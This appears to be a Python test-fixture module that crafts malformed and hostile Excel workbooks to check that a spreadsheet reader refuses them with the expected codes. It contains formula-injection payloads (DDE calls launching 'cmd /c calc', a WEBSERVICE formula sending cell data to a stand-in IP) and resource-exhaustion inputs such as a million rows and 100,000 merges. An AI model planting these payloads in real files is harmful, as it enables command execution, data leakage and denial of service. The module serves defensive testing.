"""Attacks in the cells: where they say they stand, what they hold, how many there are."""

import re
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from html import escape

from tests.support.hostile.markup import FULL, SHEET, noise
from tests.support.workbooks import balanced_workbook, packed, parts, sheet_part

FIGURE = "B9"
"""A cell of the sheet 表二 that holds a figure, typed."""


def _inside(old: str, new: str) -> bytes:
    """Return the balanced workbook with something changed on one sheet; it must be there."""
    contents = parts(balanced_workbook())
    text, hits = re.subn(old, lambda _: new, contents[SHEET].decode(), count=1)
    assert hits, old
    return packed({**contents, SHEET: text.encode()})


def cell(attributes: str, inside: str, at: str = FIGURE) -> bytes:
    """Return the balanced workbook with another cell in the place of a figure."""
    contents = parts(balanced_workbook())
    part = sheet_part(contents, "表二")
    pattern = rf'<c r="{FIGURE}"((?: s="\d+")?)[^>]*?(?:/>|>.*?</c>)'
    found = re.search(pattern, contents[part].decode())
    assert found
    new = f'<c r="{at}"{found[1]} {attributes}>{inside}</c>'
    text = contents[part].decode().replace(found[0], new)
    return packed({**contents, part: text.encode()})


def _last(rows: str) -> bytes:
    return _inside("</sheetData>", f"{rows}</sheetData>{noise()}")


def _behind(markup: str) -> bytes:
    return _inside("</sheetData>", f"</sheetData>{markup}")


def _rows(count: int, inside: str = "") -> bytes:
    rows = "".join(f'<row r="{n}">{inside.format(n)}</row>' for n in range(101, 101 + count))
    return _last(rows)


def all_sheets(rows: str) -> bytes:
    """Return the balanced workbook with `rows` at the end of each of its sheets."""
    contents = parts(balanced_workbook())
    for name in contents:
        if name.startswith("xl/worksheets/sheet"):
            text = contents[name].decode().replace("</sheetData>", f"{rows}</sheetData>")
            contents[name] = text.encode()
    return packed(contents)


def ten_thousand_findings() -> bytes:
    """A text beside the tables in each of ten thousand cells, and every figure a text."""
    contents = parts(balanced_workbook())
    for name in contents:
        if name.startswith("xl/worksheets/sheet"):
            rows = "".join(
                f'<row r="{n}"><c r="B{n}" t="inlineStr"><is><t>x{n}</t></is></c></row>'
                for n in range(201, 2201)
            )
            text = contents[name].decode()
            text = re.sub(r"<v>(\d+)</v>", r"<v>-\1.5</v>", text)
            text = re.sub(r'( t="s")><v>-(\d+)\.5', r"\1><v>\2", text)
            contents[name] = text.replace("</sheetData>", f"{rows}</sheetData>").encode()
    return packed(contents)


NUMBERS = {
    "NaN": "NaN",
    "INF": "INF",
    "-INF": "-INF",
    "1E400": "1E400",
    "1E999999999": "1E999999999",
    "1E-999999999": "1E-999999999",
    "400 digits": "9" * 400,
    "5,000 digits": "9" * 5000,
    "1_000": "1_000",
    "full-width digits": "１２",
    "Arabic digits": "٣",
    "text": "abc",
    "hexadecimal": "0x10",
    "a date below zero": "-1",
    "a huge date": "99999999999",
}
"""What a number cell may hold that is no number of any report."""

FORMULAS = {
    "DDE": 'DDE("cmd";"/c calc";"A1")',
    "DDE link": "cmd|'/c calc'!A1",
    "WEBSERVICE": 'WEBSERVICE("http://198.51.100.1/"&A1)',
    "HYPERLINK": 'HYPERLINK("http://198.51.100.1/","x")',
    "external book": "[1]Sheet1!A1",
    "100,000 brackets": "(" * 30_000,
    "circle": FIGURE,
    "thousand functions deep": "IF(" * 1000 + "1" + ")" * 1000,
    "unclosed text": '"' * 4999,
}


def _numbers() -> Iterator[tuple[str, tuple[Callable[[], bytes], str]]]:
    for name, text in NUMBERS.items():
        yield f"number cell: {name}", (partial(cell, "", f"<v>{text}</v>"), _code(text))


def _code(text: str) -> str:
    """Return what a number cell is found to hold: a text, a number below zero, a plain number."""
    return "" if text.isascii() and text.isdigit() and len(text) < 20 else "CELL"


def _formulas() -> Iterator[tuple[str, tuple[Callable[[], bytes], str]]]:
    for name, text in FORMULAS.items():
        inside = f"<f>{escape(text)}</f><v>1</v>"
        yield f"formula: {name}", (partial(cell, "", inside), "CELL06")


BLANK = '<c r="A{0}" s="1"/>'
SHARED = '<c r="A101"><f t="shared" si="9" ref="A101:A9999">' + "A1+" * 2000 + "1</f></c>"
CHILDREN = "".join(f'<c r="A{n}"><f t="shared" si="9"/></c>' for n in range(102, 9999))

SHEETS: Mapping[str, tuple[Callable[[], bytes], str]] = {
    **dict(_numbers()),
    **dict(_formulas()),
    "dimension of a whole sheet": (
        lambda: _inside('<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"'),
        "",
    ),
    "dimension of one cell": (
        lambda: _inside('<dimension ref="[^"]*"', '<dimension ref="A1"'),
        "",
    ),
    "a cell at the end of the sheet": (
        lambda: _last('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "BOOK11",
    ),
    "a cell beyond the end": (
        lambda: _last('<row r="9999999"><c r="ZZZZ9999999"><v>1</v></c></row>'),
        "BOOK04",
    ),
    "a row number of 5,000 digits": (
        lambda: _last(f'<row r="{"9" * 5000}"><c><v>1</v></c></row>'),
        "BOOK04",
    ),
    "a row 0": (lambda: _last('<row r="0"><c r="A0"><v>1</v></c></row>'), "BOOK04"),
    "merge of the whole sheet": (
        lambda: _behind('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "BOOK24",
    ),
    "merge of nothing": (
        lambda: _behind('<mergeCells><mergeCell ref="nonsense"/><mergeCell/></mergeCells>'),
        "",
    ),
    "100,000 merges": (lambda: _behind('<mergeCell ref="A1:B2"/>' * 100_000), "BOOK05"),
    "hidden columns to the end": (
        lambda: _inside("<sheetData>", '<col min="1" max="999999999" hidden="1"/><sheetData>'),
        "BOOK23",
    ),
    "a million rows": (lambda: _last("<row/>" * 1_000_000), "BOOK05"),
    "all rows that go": (lambda: _rows(23_000, '<c r="A{0}"><v>1</v></c>'), "BOOK11"),
    "more rows than go": (lambda: _rows(45_000, '<c r="A{0}"><v>1</v></c>'), "BOOK05"),
    "a million blank cells": (lambda: _last(f"<row>{'<c/>' * 1_000_000}</row>"), "BOOK05"),
    "blank cells with a style": (lambda: _rows(45_000, BLANK * 4), ""),
    "blank cells on all sheets": (lambda: all_sheets(f"<row>{'<c/>' * 45_000}</row>"), ""),
    "more blank cells on all sheets": (
        lambda: all_sheets(f"<row>{'<c/>' * 190_000}</row>"),
        "BOOK05",
    ),
    "full cells on all sheets": (
        lambda: all_sheets(f"<row>{'<c><v>1</v></c>' * 40_000}</row>"),
        "BOOK05",
    ),
    "200,000 full cells": (
        lambda: _last(f"<row>{'<c><v>1</v></c>' * 199_000}</row>"),
        "BOOK05",
    ),
    "as many full cells as go": (
        lambda: _last(f"<row>{'<c><v>1</v></c>' * 23_000}</row>"),
        "BOOK11",
    ),
    "a sheet full of values": (
        lambda: _last(f"<row><c>{'<v/>' * (FULL // 4)}</c></row>"),
        "BOOK05",
    ),
    "as many values as go": (lambda: _last(f"<row><c>{'<v/>' * 480_000}</c></row>"), ""),
    "shared string out of range": (lambda: cell('t="s"', "<v>99999</v>"), "BOOK04"),
    "shared string below zero": (lambda: cell('t="s"', "<v>-1</v>"), "BOOK04"),
    "shared string of 5,000 digits": (lambda: cell('t="s"', f"<v>{'9' * 5000}</v>"), "BOOK04"),
    "style out of range": (
        lambda: _inside(r'<c r="A5" s="\d+"', '<c r="A5" s="99999999"'),
        "",
    ),
    "style below zero": (lambda: _inside(r'<c r="A5" s="\d+"', '<c r="A5" s="-1"'), ""),
    "unknown type of cell": (lambda: cell('t="nonsense"', "<v>1</v>"), "BOOK04"),
    "boolean": (lambda: cell('t="b"', "<v>true</v>"), "CELL"),
    "error": (lambda: cell('t="e"', "<v>#DIV/0!</v>"), "CELL"),
    "unknown error": (lambda: cell('t="e"', "<v>#EVIL!</v>"), "CELL"),
    "text too long": (
        lambda: cell('t="inlineStr"', f"<is><t>{'a' * 40_000}</t></is>"),
        "BOOK05",
    ),
    "lone surrogates": (lambda: cell('t="inlineStr"', "<is><t>_xD800__xDC00_</t></is>"), "CELL"),
    "shared formula that swells": (lambda: _last(f"<row>{SHARED}{CHILDREN}</row>"), "BOOK05"),
    "shared formula without a first": (
        lambda: cell("", '<f t="shared" si="77"/><v>1</v>'),
        "CELL06",
    ),
    "ten thousand findings": (ten_thousand_findings, "CELL"),
}
"""Maker of each file, and the code it leads to: `BOOK04` and `BOOK05` refuse it; none if it is
read as it stands; a family (`CELL`) where other codes than one may come."""
